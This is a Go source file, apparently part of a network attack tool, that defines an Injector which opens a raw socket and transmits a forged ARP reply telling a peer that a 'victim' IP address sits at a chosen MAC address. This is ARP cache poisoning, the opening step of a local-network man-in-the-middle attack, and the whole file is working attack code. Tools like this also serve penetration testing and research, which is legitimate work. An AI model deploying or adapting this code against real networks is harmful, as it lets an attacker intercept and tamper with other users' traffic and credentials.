package malcolm

import (
	"fmt"
	"io"
	"net"

	"github.com/mdlayher/raw"
	"github.com/sirupsen/logrus"
)

// An Injector transmits the forged ARP reply for a Target.
type Injector struct {
	// Log receives progress messages.  If nil, messages are discarded.
	Log logrus.FieldLogger
}

// Inject sends the forged ARP reply for t on t.Interface, using an
// Injector with no logger.
func Inject(t *Target) error {
	return (&Injector{}).Inject(t)
}

// Inject opens a raw socket on t.Interface, sends the forged ARP reply for
// t exactly once, and closes the socket.
//
// Nothing is transmitted if t is invalid or its interface cannot be found.
func (i *Injector) Inject(t *Target) error {
	if err := t.Validate(); err != nil {
		return fmt.Errorf("inject: %w", err)
	}

	ifi, err := net.InterfaceByName(t.Interface)
	if err != nil {
		return fmt.Errorf("inject: interface %q: %w", t.Interface, err)
	}

	p, err := raw.ListenPacket(ifi, protocolARP, nil)
	if err != nil {
		return fmt.Errorf("inject: open raw socket on %q: %w", ifi.Name, err)
	}
	defer p.Close()

	return i.Send(p, t)
}

// Send writes the forged ARP reply for t to p, addressed to t.PeerMAC.
// There is no retry: a failed or short write is returned as an error.
func (i *Injector) Send(p net.PacketConn, t *Target) error {
	f, pkt, err := t.Reply()
	if err != nil {
		return fmt.Errorf("inject: %w", err)
	}

	b, err := Encode(f, pkt)
	if err != nil {
		return fmt.Errorf("inject: %w", err)
	}

	n, err := p.WriteTo(b, &raw.Addr{
		HardwareAddr: t.PeerMAC,
	})
	if err != nil {
		return fmt.Errorf("inject: send ARP reply: %w", err)
	}
	if n != len(b) {
		return fmt.Errorf("inject: sent %d of %d bytes: %w", n, len(b), io.ErrShortWrite)
	}

	i.logger().WithFields(logrus.Fields{
		"peer_ip":  t.PeerIP.String(),
		"peer_mac": t.PeerMAC.String(),
	}).Infof("sent ARP reply packet: %s is-at %s", t.VictimIP, t.VictimMAC)

	return nil
}

func (i *Injector) logger() logrus.FieldLogger {
	if i.Log != nil {
		return i.Log
	}

	return discard
}
